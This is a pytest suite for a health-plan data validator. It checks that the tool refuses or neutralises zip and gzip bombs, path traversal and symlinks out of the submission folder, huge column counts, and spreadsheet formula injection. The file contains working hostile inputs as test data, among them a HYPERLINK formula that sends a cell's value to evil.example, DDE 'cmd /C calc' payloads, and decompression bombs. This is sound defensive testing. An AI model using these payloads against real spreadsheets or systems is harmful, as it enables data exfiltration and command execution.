"""Bombs, links, ways out of the folder, masses of columns and formulas: refused or neutralised."""

import csv
import gzip
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest

MEMBERS = (
    "member_id,plan_id,birth_date,sex,enrolled_from,enrolled_to,county_fips,zip,latitude,longitude"
)
GOOD = "M1,ANCHOR,1980-01-01,F,2024-10-01,,47037,37203,36.15,-86.79"
SECRET = "the-secret-of-another-folder"


def packed(files: dict[str, bytes]) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return sink.getvalue()


def validated(carvein, source, report):
    ran = carvein("validate", source, "--contract", "demo-imc", "--report", report, "--show-phi")
    assert ran.code in (0, 1, 2)
    assert "Traceback" not in ran.out + ran.err
    return ran, json.loads((report / "summary.json").read_text())


def faults(report, said="value"):
    with (report / "violations.csv").open(newline="") as file:
        return [(row["file"], row["line"], row[said]) for row in csv.DictReader(file)]


def test_a_zip_in_a_zip_stays_packed(carvein, tmp_path):
    """42.zip's way: each layer swells within the bound, so the inner ones are not opened."""
    bomb = packed({"0.csv": b"0" * 30_000_000})
    inner = packed({f"{n}.zip": bomb for n in range(3)})
    path = tmp_path / "ANCHOR.zip"
    path.write_bytes(packed({"members.csv": f"{MEMBERS}\n{GOOD}\n".encode(), "deep.zip": inner}))
    ran, summary = validated(carvein, path, tmp_path / "r")
    assert summary["tables"]["members"] == {"rows": 1, "staged": 1, "quarantined": 0}
    assert ("deep.zip", "0", "deep.zip") in faults(tmp_path / "r")
    assert ran.code == 1

    path.write_bytes(packed({"members.zip": inner}))
    ran, summary = validated(carvein, path, tmp_path / "r2")
    assert (ran.code, summary["verdict"]) == (2, "unreadable")
    assert "no table of the public interface" in summary["reasons"][0]


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (gzip.compress(b"0" * 60_000_000), "at most 100 times its size"),
        (gzip.compress(gzip.compress(b"0" * 60_000_000)), "an interchange, from ISA to IEA"),
        (gzip.compress(b"ISA*00*" + b"0" * 60_000_000), "at most 100 times its size"),
    ],
    ids=["a bomb", "a bomb in a gzip", "a bomb that begins as X12"],
)
def test_a_gzip_bomb_for_x12_costs_its_table_alone(carvein, submission, tmp_path, data, told):
    folder = submission()
    (folder / "claims.837.gz").write_bytes(data)
    manifest = folder / "submission.yaml"
    manifest.write_text(manifest.read_text() + "  encounters: {file: claims.837.gz}\n")
    ran, summary = validated(carvein, folder, tmp_path / "r")
    assert ran.code == 1
    assert summary["unreadable_tables"] == ["encounters"]
    assert ("claims.837.gz", "1", told) in faults(tmp_path / "r", "expected")
    assert summary["tables"]["members"] == {"rows": 2, "staged": 2, "quarantined": 0}


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("../outside/members.csv", "not a plain name"),
        ("OUTSIDE/members.csv", "not a plain name"),
        ("C:\\members.csv", "not a plain name"),
        ("link.csv", "a link"),
        ("linked/members.csv", "not a plain name"),
        ("linked", "a link"),
    ],
)
def test_nothing_outside_the_folder_is_read(carvein, submission, tmp_path, name, told):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "members.csv").write_text(f"{MEMBERS}\n{GOOD.replace('M1', SECRET)}\n")
    folder = submission()
    (folder / "link.csv").symlink_to(outside / "members.csv")
    (folder / "linked").symlink_to(outside)
    name = name.replace("OUTSIDE", str(outside))
    manifest = folder / "submission.yaml"
    manifest.write_text(manifest.read_text().replace("{file: members.csv}", f"{{file: '{name}'}}"))
    ran, summary = validated(carvein, folder, tmp_path / "r")
    assert ran.code == 1
    assert "members" in summary["unreadable_tables"]
    assert any(value.endswith(f": {told}") for _, _, value in faults(tmp_path / "r"))
    assert not any(
        SECRET.encode() in path.read_bytes()
        for path in (tmp_path / "r").rglob("*")
        if path.is_file()
    )


def test_a_manifest_that_is_a_link_is_not_read(carvein, submission, tmp_path):
    folder = submission()
    (folder / "submission.yaml").rename(tmp_path / "elsewhere.yaml")
    (folder / "submission.yaml").symlink_to(tmp_path / "elsewhere.yaml")
    ran, _ = validated(carvein, folder, tmp_path / "r")
    assert ran.code == 1
    assert ("submission.yaml", "0", "a link") in faults(tmp_path / "r")


def test_a_hundred_thousand_columns_are_refused(carvein, submission, tmp_path):
    names = [f"c{n}" for n in range(100_000)]
    folder = submission()
    wide = f"member_id,{','.join(names)}\n{'M1,' + ',' * 99_999}\n"
    (folder / "members.csv").write_text(wide)
    pl.DataFrame({name: ["x"] for name in ("office_id", *names)}).write_parquet(
        folder / "plan_offices.parquet"
    )
    manifest = folder / "submission.yaml"
    manifest.write_text(manifest.read_text().replace("plan_offices.csv", "plan_offices.parquet"))
    (folder / "plan_offices.csv").unlink()
    ran, summary = validated(carvein, folder, tmp_path / "r")
    assert (ran.code, summary["unreadable_tables"]) == (2, ["members", "plan_offices"])
    told = faults(tmp_path / "r")
    assert ("members.csv", "1", "100001 columns") in told
    assert ("plan_offices.parquet", "0", "100001 columns") in told
    # The rows of the text can be counted at least, and are.
    assert summary["tables"]["members"] == {"rows": 1, "staged": 0, "quarantined": 1}


def test_a_header_of_over_a_mebibyte_is_refused(carvein, submission, tmp_path):
    folder = submission()
    names = ",".join(f"a_long_name_of_a_column_{n}" for n in range(100_000))
    (folder / "members.csv").write_text(f"member_id,{names}\nM1,\n")
    ran, summary = validated(carvein, folder, tmp_path / "r")
    assert (ran.code, summary["unreadable_tables"]) == (1, ["members"])
    assert ("members.csv", "1", "no header line that can be read") in faults(tmp_path / "r")


CALL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
COMMANDS = (CALL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "＝1+1")
FORMULA = re.compile(r"^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")


@pytest.fixture
def formulas(tmp_path) -> Path:
    """Return a submission with formulas for values, columns, files, and the plan itself."""
    folder = tmp_path / "=1+1"
    folder.mkdir()
    rows = [GOOD.split(",") for _ in range(len(COMMANDS))]
    text = io.StringIO()
    out = csv.writer(text)
    out.writerow([*MEMBERS.split(","), *COMMANDS])
    for row, command in zip(rows, COMMANDS, strict=True):
        row[0] = row[3] = row[6] = row[7] = command
        out.writerow([*row, *COMMANDS])
    (folder / "=members.csv").write_text(text.getvalue())
    (folder / "+unknown.csv").write_text("x")
    (folder / "@offices.csv").write_text("office_id,street\n=1,-1+1\n")
    (folder / "submission.yaml").write_text(
        "plan_id: '=1+1'\ncontract_id: '@x'\nperiod: '=2026'\nsubmitted_on: '-1'\n"
        "certification: {name: '=cmd', title: '+cmd', certified_on: '@'}\n"
        "tables:\n  members: {file: '=members.csv', layout: carvein}\n"
        "  plan_offices: {file: ['@offices.csv', '-gone.csv']}\n  '=table': {file: x}\n"
    )
    return folder


@pytest.mark.parametrize("phi", [(), ("--show-phi",)], ids=["masked", "with members' facts"])
def test_no_report_file_holds_a_formula(carvein, formulas, tmp_path, phi):
    report = tmp_path / "r"
    ran = carvein("validate", formulas, "--contract", "demo-imc", "--report", report, *phi)
    assert ran.code == 1
    tables = list(report.rglob("*.csv"))
    assert {path.name for path in tables} >= {"findings.csv", "violations.csv"}
    cells = []
    for path in tables:
        with path.open(newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]
    told = [cell for cell in cells if "HYPERLINK" in cell]
    assert told  # the formulas came that far, as text
    runs = [cell for cell in cells if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]
    assert runs == []

    book = openpyxl.load_workbook(report / "findings.xlsx")
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)
    assert [name for name in book.sheetnames if FORMULA.match(name)] == []
    with zipfile.ZipFile(report / "findings.xlsx") as parts:
        for name in parts.namelist():
            part = parts.read(name).decode("utf-8", "replace")
            assert "<f>" not in part and "<hyperlink" not in part and "externalLink" not in name
    assert 'href="http://evil' not in (report / "report.html").read_text()
